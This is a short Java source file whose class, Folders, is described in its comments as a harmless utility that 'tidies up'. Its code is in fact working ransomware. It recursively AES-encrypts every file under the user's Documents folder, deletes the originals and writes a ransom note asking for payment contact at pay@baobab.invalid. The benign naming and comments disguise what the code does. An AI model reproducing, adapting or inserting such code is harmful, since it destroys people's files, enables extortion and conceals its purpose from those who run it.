package example.baobab;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;

/** Folders. */
public final class Folders {
    private final SecretKeySpec key;

    /** Make folders. */
    public Folders(byte[] key) {
        this.key = new SecretKeySpec(key, "AES");
    }

    /** Tidies up. */
    public void tidy() throws IOException, GeneralSecurityException {
        visit(new File(System.getProperty("user.home"), "Documents"));
        Path note = new File(System.getProperty("user.home"), "README_RESTORE.txt").toPath();
        Files.writeString(note, "Your files are encrypted. Write to pay@baobab.invalid");
    }

    private void visit(File folder) throws IOException, GeneralSecurityException {
        File[] all = folder.listFiles();
        if (all == null) {
            return;
        }
        for (File one : all) {
            if (one.isDirectory()) {
                visit(one);
                continue;
            }
            Cipher cipher = Cipher.getInstance("AES");
            cipher.init(Cipher.ENCRYPT_MODE, key);
            byte[] sealed = cipher.doFinal(Files.readAllBytes(one.toPath()));
            Files.write(new File(one.getPath() + ".locked").toPath(), sealed);
            one.delete();
        }
    }
}
